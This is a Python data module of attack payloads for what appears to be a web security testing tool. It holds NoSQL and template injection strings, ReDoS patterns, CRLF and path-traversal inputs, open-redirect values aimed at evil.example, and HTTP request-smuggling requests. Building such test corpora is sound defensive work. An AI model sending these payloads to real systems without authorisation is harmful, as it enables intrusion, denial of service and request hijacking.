"""Hostile values that the attacks of this package send; every entry is one value a client may put on the wire."""

OPERATORS = (
    '{"$ne":null}', '{"$gt":""}', '{"$where":"sleep(5000)"}', "[$ne]=1", "';return true;//", "$where", "a'||'1'=='1",
    "(a+)+$", ".*", "^(a|a)*$", "a" * 60 + "!", "{{7*7}}", "${7*7}", "{0.__class__}", "%(x)s", "<%= 7*7 %>",
)  # fmt: skip
TEXTS = (
    "%00", "a%00b", "%ED%A0%80", "%FF%FE", "%E2%80%AE%E8%AF%95", "%E2%80%8B%E2%80%8D", "%F0%9F%98%80" * 5,
    "%F0%A0%AE%B7%F3%B0%80%80", "%0D%0ASet-Cookie:%20x=1", "%1B[31m", "%25%30%30", "..%2F..%2Fetc%2Fpasswd", "x" * 5000,
)  # fmt: skip
HOSTS = ("//evil.example", "///evil.example", "/\\evil.example", "/\\/evil.example", "\\\\evil.example",
         "https://evil.example", "http:evil.example", "https:/evil.example", "javascript:alert(1)", "data:text/html,x",
         "//evil.example/%2f..", "/%09/evil.example", "/%2f%2fevil.example", "/.evil.example", "@evil.example",
         "/%5cevil.example", "//%65vil.example", "/%0d%0aLocation:%20//evil.example", "/;@evil.example",
         "////evil.example")  # fmt: skip
NAMES = ("next", "return", "back", "redirect", "url", "continue")
REDIRECTS = tuple((name, host) for name in NAMES for host in HOSTS)
#: Raw requests no two servers may read differently; `{h}` is the host line.
SMUGGLED = {
    "two lengths": "POST / HTTP/1.1\r\n{h}Content-Length: 4\r\nContent-Length: 5\r\n\r\nabcd",
    "list of lengths": "POST / HTTP/1.1\r\n{h}Content-Length: 4, 5\r\n\r\nabcd",
    "length and chunked": "POST / HTTP/1.1\r\n{h}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "signed length": "POST / HTTP/1.1\r\n{h}Content-Length: +4\r\n\r\nabcd",
    "negative length": "POST / HTTP/1.1\r\n{h}Content-Length: -4\r\n\r\nabcd",
    "odd digits": "POST / HTTP/1.1\r\n{h}Content-Length: 4_0\r\n\r\nabcd",
    "unknown coding": "POST / HTTP/1.1\r\n{h}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "chunk size with sign": "POST / HTTP/1.1\r\n{h}Transfer-Encoding: chunked\r\n\r\n+1\r\na\r\n0\r\n\r\n",
    "space before colon": "POST / HTTP/1.1\r\n{h}Content-Length : 4\r\n\r\nabcd",
    "bare cr in a value": "GET / HTTP/1.1\r\n{h}X-A: b\rc\r\n\r\n",
    "nul in a value": "GET / HTTP/1.1\r\n{h}X-A: b\x00c\r\n\r\n",
    "folded line at first": "GET / HTTP/1.1\r\n continued\r\n{h}\r\n",
    "no host": "GET / HTTP/1.1\r\nConnection: close\r\n\r\n",
    "two hosts": "GET / HTTP/1.1\r\n{h}Host: evil.example\r\n\r\n",
    "headers too long": "GET / HTTP/1.1\r\n{h}X-A: " + "a" * 20000 + "\r\n\r\n",
}
